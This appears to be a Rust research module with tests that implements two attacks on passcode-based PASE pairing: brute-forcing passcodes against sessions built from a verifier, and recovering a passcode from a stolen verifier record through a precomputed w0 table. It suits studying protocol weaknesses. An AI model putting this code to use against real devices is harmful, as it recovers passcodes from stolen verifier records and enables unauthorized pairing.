//! Attacks against passcode pairing.
//!
//! Both attacks pair against server sessions built from a stored verifier
//! record, so the target passcode is derived once and every attempt gets a
//! fresh session, as a real device would open one per pairing request.

use std::time::Duration;

use anyhow::{Context, Result};
use pase::{
    crypto::Provider,
    passcode,
    spake2p::{PbkdfParameters, SessionKey, Verifier},
    PaseClient, PaseServer,
};
use tokio::io::AsyncBufRead;
use tracing::{debug, info, warn};

use crate::table::find_passcode_by_w0;

/// A passcode that completed a pairing.
#[derive(Debug)]
pub struct Recovered {
    pub passcode: u32,
    pub session_key: SessionKey,
    /// Pairings attempted, including the successful one.
    pub attempts: u64,
}

/// Whether one pairing attempt succeeded or was refused.
enum Attempt {
    Paired(SessionKey),
    Refused,
    TimedOut,
}

async fn try_passcode(
    provider: &Provider,
    target: &Verifier,
    params: &PbkdfParameters,
    candidate: u32,
    timeout: Duration,
) -> Result<Attempt> {
    let mut server = PaseServer::with_verifier(provider.clone(), target.clone(), params.clone());
    let mut client = PaseClient::new(provider.clone());

    let pairing = client.initiate_pairing(candidate, params, &mut server);
    match tokio::time::timeout(timeout, pairing).await {
        Err(_) => Ok(Attempt::TimedOut),
        Ok(Ok(ke)) => Ok(Attempt::Paired(ke)),
        Ok(Err(e)) if e.is_authentication() => Ok(Attempt::Refused),
        Ok(Err(e)) => Err(e).with_context(|| format!("pairing attempt with passcode {candidate}")),
    }
}

/// Try each valid passcode in `candidates` in turn against sessions serving
/// `target`, stopping at the first one that pairs.
///
/// Invalid passcodes are skipped without an attempt. Refused pairings and
/// attempts that exceed `attempt_timeout` move on to the next candidate; any
/// other error ends the run.
pub async fn brute_force<I>(
    provider: &Provider,
    target: &Verifier,
    params: &PbkdfParameters,
    candidates: I,
    attempt_timeout: Duration,
) -> Result<Option<Recovered>>
where
    I: IntoIterator<Item = u32>,
{
    let mut attempts = 0_u64;
    for candidate in candidates.into_iter().filter(|p| passcode::is_valid(*p)) {
        attempts += 1;
        match try_passcode(provider, target, params, candidate, attempt_timeout).await? {
            Attempt::Paired(session_key) => {
                info!("pairing succeeded with passcode {candidate:08}");
                return Ok(Some(Recovered {
                    passcode: candidate,
                    session_key,
                    attempts,
                }));
            }
            Attempt::Refused => debug!("pairing failed with passcode {candidate:08}"),
            Attempt::TimedOut => {
                warn!("passcode {candidate:08} timed out after {attempt_timeout:?}")
            }
        }
    }
    info!("{attempts} passcodes tried, none paired");
    Ok(None)
}

/// Recover the passcode behind a stolen verifier record by looking its `w0`
/// up in a precomputed table, then confirm it with a real pairing.
///
/// Returns `None` if `w0` is not in the table.
pub async fn precomputation_attack<R>(
    provider: &Provider,
    stolen_record: &[u8],
    params: &PbkdfParameters,
    table: R,
    attempt_timeout: Duration,
) -> Result<Option<Recovered>>
where
    R: AsyncBufRead + Unpin,
{
    let target = Verifier::from_bytes(stolen_record).context("decoding stolen verifier")?;

    let Some(candidate) = find_passcode_by_w0(table, target.w0()).await? else {
        info!("stolen w0 not found in precomputed table");
        return Ok(None);
    };
    info!("table lookup gives passcode {candidate:08}");

    match try_passcode(provider, &target, params, candidate, attempt_timeout).await? {
        Attempt::Paired(session_key) => Ok(Some(Recovered {
            passcode: candidate,
            session_key,
            attempts: 1,
        })),
        Attempt::Refused => anyhow::bail!(
            "passcode {candidate} from the table was refused; was it built with other parameters?"
        ),
        Attempt::TimedOut => anyhow::bail!("pairing with passcode {candidate} timed out"),
    }
}

#[cfg(test)]
mod test {
    use super::*;
    use crate::table::build_table;
    use pase::{spake2p::compute_w0_l, DefaultProvider};

    const TIMEOUT: Duration = Duration::from_secs(30);

    fn params() -> PbkdfParameters {
        PbkdfParameters::new(10, b"asalt".to_vec()).unwrap()
    }

    #[tokio::test]
    async fn brute_force_finds_the_passcode() -> Result<()> {
        let provider = DefaultProvider::shared();
        let target = compute_w0_l(&provider, &params(), 25).await?;

        let found = brute_force(&provider, &target, &params(), 1..=40, TIMEOUT)
            .await?
            .expect("passcode 25 is in range");
        assert_eq!(found.passcode, 25);
        assert_eq!(found.attempts, 25);
        assert_eq!(found.session_key.len(), 16);
        Ok(())
    }

    #[tokio::test]
    async fn brute_force_skips_invalid_passcodes() -> Result<()> {
        let provider = DefaultProvider::shared();
        let target = compute_w0_l(&provider, &params(), 3).await?;

        // 0 is never tried
        let found = brute_force(&provider, &target, &params(), 0..=5, TIMEOUT)
            .await?
            .expect("passcode 3 is in range");
        assert_eq!(found.attempts, 3);
        Ok(())
    }

    #[tokio::test]
    async fn brute_force_exhausts_the_range() -> Result<()> {
        let provider = DefaultProvider::shared();
        let target = compute_w0_l(&provider, &params(), 250).await?;
        assert!(brute_force(&provider, &target, &params(), 1..=10, TIMEOUT)
            .await?
            .is_none());
        Ok(())
    }

    #[tokio::test]
    async fn precomputation_recovers_the_passcode() -> Result<()> {
        let provider = DefaultProvider::shared();
        let mut table = Vec::new();
        build_table(&provider, &params(), 1..=50, 4, &mut table).await?;

        let stolen = compute_w0_l(&provider, &params(), 42).await?.to_bytes();
        let found = precomputation_attack(&provider, &stolen, &params(), &table[..], TIMEOUT)
            .await?
            .expect("passcode 42 is in the table");
        assert_eq!(found.passcode, 42);

        let stolen = compute_w0_l(&provider, &params(), 99).await?.to_bytes();
        assert!(
            precomputation_attack(&provider, &stolen, &params(), &table[..], TIMEOUT)
                .await?
                .is_none()
        );
        Ok(())
    }

    #[tokio::test]
    async fn precomputation_rejects_garbage_records() {
        let provider = DefaultProvider::shared();
        let res =
            precomputation_attack(&provider, &[0_u8; 12], &params(), &b""[..], TIMEOUT).await;
        assert!(res.is_err());
    }
}
